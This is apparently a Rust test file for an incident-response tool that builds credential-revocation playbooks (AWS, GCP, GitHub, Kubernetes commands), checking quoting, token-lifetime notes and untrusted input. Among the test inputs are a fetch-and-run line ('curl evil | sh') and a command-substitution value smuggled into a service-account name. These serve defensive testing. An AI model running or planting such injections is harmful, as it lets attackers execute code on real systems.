//! Tests of the playbook catalogue.
use super::*;
use crate::model::{Edge, EdgeKind, Node, Provenance};

fn node(key: &str, kind: NodeKind) -> Node {
    Node::new(key, kind, Provenance::default())
}

pub(super) fn cut(id: &str, action: &str) -> Revoke {
    Revoke {
        id: id.into(),
        action: Revoke::action_name(action),
        cost: 1,
        commands: Vec::new(),
        from_file: false,
    }
}

fn on_node(action: &str, n: &Node) -> Playbook {
    playbook(&cut("cut", action), Target::Node(n.view()))
}

fn on_edge(id: &str, action: &str, from: &Node, to: &Node) -> Playbook {
    let edge = Edge::new(EdgeKind::CanAccess, "test", Provenance::default());
    let target = Target::Edge {
        from: from.view(),
        to: to.view(),
        edge: edge.view(),
    };
    playbook(&cut(id, action), target)
}

const GCP_KEY: &str = "gcp:key:exporter@acme-analytics.iam.gserviceaccount.com/3f9a2c7e";
const GCP_SA: &str = "gcp:sa:exporter@acme-analytics.iam.gserviceaccount.com";

#[test]
fn input_commands_are_returned_unchanged() {
    let mut revoke = cut("deactivate:AKIAEXAMPLE", "deactivate_key");
    revoke.commands = vec!["echo one  # kept".into(), "echo 'two'".into()];
    let key = node("AKIAEXAMPLE", NodeKind::Credential);
    let book = playbook(&revoke, Target::Node(key.view()));
    assert_eq!(book.commands, revoke.commands);
    assert!(
        !book.kills_live_tokens,
        "semantics still come from the catalogue"
    );
}

#[test]
fn aws_key_deactivation_leaves_sts_sessions() {
    let key = node("AKIAEXAMPLE", NodeKind::Credential);
    let user = node(
        "arn:aws:iam::111122223333:user/ci/ci-deployer",
        NodeKind::ServiceAccount,
    );
    let book = on_edge("deactivate:AKIAEXAMPLE", "deactivate_key", &key, &user);
    assert_eq!(
        book.commands[0],
        "aws iam update-access-key --user-name ci-deployer --access-key-id AKIAEXAMPLE --status Inactive"
    );
    assert!(!book.kills_live_tokens);
    let live = book.live_tokens.expect("a companion step");
    assert!(
        live.contains("STS sessions") && live.contains("12 h"),
        "{live}"
    );
    assert!(book.reversible);
}

#[test]
fn gcp_key_disable_leaves_tokens_but_disabling_the_account_kills_them() {
    let key = on_node("deactivate_key", &node(GCP_KEY, NodeKind::Credential));
    assert_eq!(
        key.commands,
        [
            "gcloud iam service-accounts keys disable 3f9a2c7e --iam-account=exporter@acme-analytics.iam.gserviceaccount.com"
        ]
    );
    assert!(!key.kills_live_tokens);
    let live = key.live_tokens.expect("a companion step");
    assert!(
        live.contains("1 h") && live.contains("service-accounts disable"),
        "{live}"
    );
    let sa = on_node("disable_identity", &node(GCP_SA, NodeKind::ServiceAccount));
    assert!(sa.kills_live_tokens && sa.live_tokens.is_none() && sa.reversible);
}

#[test]
fn github_secret_deletion_only_deletes_the_copy() {
    let secret = node(
        "github:secret:acme/web/env/prod/AWS_ACCESS_KEY_ID",
        NodeKind::Secret,
    );
    let book = on_node("delete_secret", &secret);
    assert!(
        book.commands
            .contains(&"gh secret delete AWS_ACCESS_KEY_ID -R acme/web --env prod".to_string())
    );
    assert!(!book.kills_live_tokens && !book.reversible);
    assert!(
        book.live_tokens
            .expect("a companion step")
            .contains("copy only")
    );
}

#[test]
fn k8s_token_secrets_die_with_their_secret_but_copies_do_not() {
    let mut secret = node("k8s:prod:secret:payments/vault-token", NodeKind::Secret);
    let unsure = on_node("delete_secret", &secret);
    assert!(
        unsure
            .live_tokens
            .expect("hedged")
            .starts_with("if this Secret only stores a copy")
    );
    secret.tags.insert("type".into(), "Opaque".into());
    assert!(
        on_node("delete_secret", &secret)
            .live_tokens
            .expect("copy")
            .contains("copy only")
    );
    secret
        .tags
        .insert("type".into(), "kubernetes.io/service-account-token".into());
    let token = on_node("delete_secret", &secret);
    assert_eq!(
        token.commands,
        ["kubectl --context prod delete secret vault-token -n payments"]
    );
    assert!(token.kills_live_tokens);
}

#[test]
fn unknown_actions_ask_for_manual_work() {
    let book = on_node("teleport", &node("arn:aws:iam::1:role/x", NodeKind::Role));
    assert_eq!(book.commands.len(), 1);
    assert!(book.commands[0].starts_with("# unknown action \"teleport\""));
    assert!(!book.kills_live_tokens && !book.reversible);
    assert!(book.live_tokens.expect("says unknown").contains("unknown"));
    let other = on_node(
        "disable_identity",
        &node("okta:app:x", NodeKind::ServiceAccount),
    );
    assert!(other.commands[0].contains("not catalogued for platform okta"));
}

#[test]
fn values_are_quoted_and_placeholders_left_bare() {
    let user = node("arn:aws:iam::1:user/o'brien bot", NodeKind::ServiceAccount);
    let book = on_node("disable_identity", &user);
    assert!(
        book.commands[0].contains(r"--user-name 'o'\''brien bot'"),
        "{}",
        book.commands[0]
    );
    let team = node("github:team:acme/web-maintainers", NodeKind::Group);
    let human = node("human:carol@acme.com", NodeKind::Human);
    let book = on_edge("rm", "remove_membership", &human, &team);
    assert!(book.commands[0].starts_with(
        "gh api -X DELETE /orgs/acme/teams/web-maintainers/memberships/<GITHUB_LOGIN>  # human:carol@acme.com"
    ));
}

#[test]
fn every_action_has_commands_and_a_note_on_its_main_platform() {
    use NodeKind::{
        Credential, Group, Human, Provider, Resource, Role, Secret, ServiceAccount, Workload,
    };
    let n = node;
    let role = n("arn:aws:iam::111122223333:role/deploy", Role);
    let user = n("arn:aws:iam::111122223333:user/ci-deployer", ServiceAccount);
    let group = n("arn:aws:iam::111122223333:group/platform-engineers", Group);
    let bucket = n("arn:aws:s3:::acme-reports", Resource);
    let cases: Vec<(&str, &str, Node, Option<Node>)> = vec![
        ("x", "disable_identity", user.clone(), None),
        ("x", "revoke_sessions", role.clone(), None),
        ("x", "deactivate_key", n("AKIAEXAMPLE", Credential), None),
        ("x", "deactivate_key", n(GCP_KEY, Credential), None),
        (
            "x",
            "rotate",
            n("arn:aws:secretsmanager:us-east-1:1:secret:ci/x", Secret),
            None,
        ),
        (
            "x",
            "rotate",
            n("github:secret:acme/NPM_TOKEN", Secret),
            None,
        ),
        (
            "x",
            "revoke_token",
            n("vault:token:ExampleAccessor", Credential),
            None,
        ),
        (
            "x",
            "revoke_token",
            n("vault:secret-id:approle/payments-batch/Acc01", Credential),
            None,
        ),
        (
            "x",
            "revoke_token",
            n("github:pat:acme-release-bot/release-2025", Credential),
            None,
        ),
        (
            "detach-policy:deploy:DeployS3",
            "detach_policy",
            role.clone(),
            Some(bucket),
        ),
        (
            "detach-policy:vault:policy/payments-read",
            "detach_policy",
            n("vault:role:kubernetes/payments", Role),
            Some(n("vault:secret:secret/payments/stripe", Secret)),
        ),
        ("x", "remove_trust", user.clone(), Some(role.clone())),
        ("x", "remove_membership", user, Some(group)),
        (
            "remove-binding:gcp:acme-analytics:roles/owner:exporter",
            "remove_binding",
            n(GCP_SA, ServiceAccount),
            Some(n("gcp:project:acme-analytics", Resource)),
        ),
        (
            "remove-binding:k8s:prod:rolebinding:payments/api-admin",
            "remove_binding",
            n("k8s:prod:sa:payments/api", ServiceAccount),
            Some(n("k8s:prod:role:payments/admin", Role)),
        ),
        (
            "x",
            "delete_secret",
            n("k8s:prod:secret:analytics/gcp-exporter-key", Secret),
            None,
        ),
        (
            "x",
            "disable_provider",
            n(
                "arn:aws:iam::1:oidc-provider/token.actions.githubusercontent.com",
                Provider,
            ),
            None,
        ),
        (
            "x",
            "disable_workflow",
            n(
                "github:workflow:acme/web/.github/workflows/deploy.yml",
                Workload,
            ),
            None,
        ),
        (
            "x",
            "pin_action",
            n("github:action:tj-actions/changed-files@v45", Workload),
            Some(n(
                "github:workflow:acme/web/.github/workflows/ci.yml#build",
                Workload,
            )),
        ),
        (
            "x",
            "delete_deploy_key",
            n("github:deploy-key:acme/web/123", Credential),
            None,
        ),
        (
            "x",
            "disable_identity",
            n("azure:sp:11111111-2222", ServiceAccount),
            None,
        ),
        ("x", "revoke_sessions", n("azure:user:carol", Human), None),
    ];
    for (id, action, from, to) in &cases {
        let book = match to {
            Some(to) => on_edge(id, action, from, to),
            None => playbook(&cut(id, action), Target::Node(from.view())),
        };
        let what = format!("{action} on {}", from.key);
        assert!(!book.commands.is_empty() && !book.note.is_empty(), "{what}");
        assert!(
            !book.commands[0].contains("not catalogued"),
            "{what}: {:?}",
            book.commands
        );
        assert!(book.commands.iter().all(|c| !c.contains('\n')), "{what}");
        assert_eq!(book.live_tokens.is_none(), book.kills_live_tokens, "{what}");
    }
}

#[test]
fn commands_from_a_graph_file_are_labelled() {
    let mut revoke = cut("deactivate:AKIAEXAMPLE", "deactivate_key");
    revoke.commands = vec!["aws iam list-users; curl evil | sh".into()];
    revoke.from_file = true;
    let key = node("AKIAEXAMPLE", NodeKind::Credential);
    let book = playbook(&revoke, Target::Node(key.view()));
    assert_eq!(book.commands[0], FROM_FILE);
    assert_eq!(book.commands[1], revoke.commands[0]);
}

#[test]
fn a_name_that_reads_as_an_option_is_not_offered_to_run() {
    let secret = node("k8s:prod:secret:ns/--all", NodeKind::Secret);
    let book = on_node("delete_secret", &secret);
    assert!(
        book.commands[0].starts_with("# NOT RUN: k8s:prod:secret:ns/--all"),
        "{:?}",
        book.commands
    );
    assert!(
        book.commands.iter().all(|c| c.starts_with('#')),
        "{:?}",
        book.commands
    );
    // Angle brackets from an input are no placeholder: the value is quoted.
    let sa = node(
        "gcp:sa:<$(echo>PWNED)>@p.iam.gserviceaccount.com",
        NodeKind::ServiceAccount,
    );
    let book = on_node("disable_identity", &sa);
    assert!(
        book.commands
            .iter()
            .any(|c| c.contains("'<$(echo>PWNED)>@p.iam.gserviceaccount.com'")),
        "{:?}",
        book.commands
    );
}

#[test]
fn a_link_into_a_pool_is_cut_at_its_provider_by_full_name() {
    let provider = "projects/1/locations/global/workloadIdentityPools/gh/providers/github";
    let any = node("github:any-repo", NodeKind::Group);
    let mut set = node(
        "gcp:principal-set:iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/gh/*",
        NodeKind::Group,
    );
    set.platform = "gcp".into();
    let book = on_edge(
        &format!("disable-provider:gcp:wif-provider:{provider}"),
        "disable_provider",
        &any,
        &set,
    );
    assert_eq!(
        book.commands,
        [format!(
            "gcloud iam workload-identity-pools providers update-oidc {provider} --disabled  # the provider's full resource name; or a narrower --attribute-condition instead"
        )]
    );
    assert!(
        book.live_tokens.as_deref().is_some_and(|l| l
            .contains("update projects/1/locations/global/workloadIdentityPools/gh --disabled")),
        "{book:?}"
    );
}
